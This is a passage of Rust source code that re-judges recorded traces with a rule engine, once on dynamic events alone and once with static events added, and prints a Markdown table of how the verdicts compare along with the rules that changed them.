                .cloned()
                .collect(),
        };
        let judge = |events: Vec<Event>| {
            let mut records: Vec<Record> = events
                .into_iter()
                .enumerate()
                .map(|(i, mut e)| {
                    e.seq = i as u64;
                    Record::Event(e)
                })
                .collect();
            if let Some(f) = &trace.footer {
                records.push(Record::Footer(f.clone()));
            }
            rules.judge(&trace.header, records)
        };
        let d = judge(dynamic.clone());
        let mut all = static_events;
        all.extend(dynamic);
        let c = judge(all);
        *matrix
            .entry((d.verdict.to_string(), c.verdict.to_string()))
            .or_default() += 1;
        if d.verdict != c.verdict {
            let added: BTreeSet<&str> = c
                .findings
                .iter()
                .filter(|f| !d.findings.iter().any(|g| g.rule == f.rule))
                .map(|f| f.rule.as_str())
                .collect();
            changed.push(format!(
                "{name}: {} ({:.1}) → {} ({:.1}) by {added:?}",
                d.verdict, d.score, c.verdict, c.score
            ));
        }
    }
    println!(
        "\n## {}: {} traces ({fresh} with a fresh static pass)\n",
        dir.display(),
        traces.len()
    );
    println!("| dynamic alone | dynamic + static | samples |\n|---|---|---:|");
    for ((d, c), n) in &matrix {
        println!("| {d} | {c} | {n} |");
    }
    println!("\nchanged:");
    for c in &changed {
        println!("  {c}");
    }
}
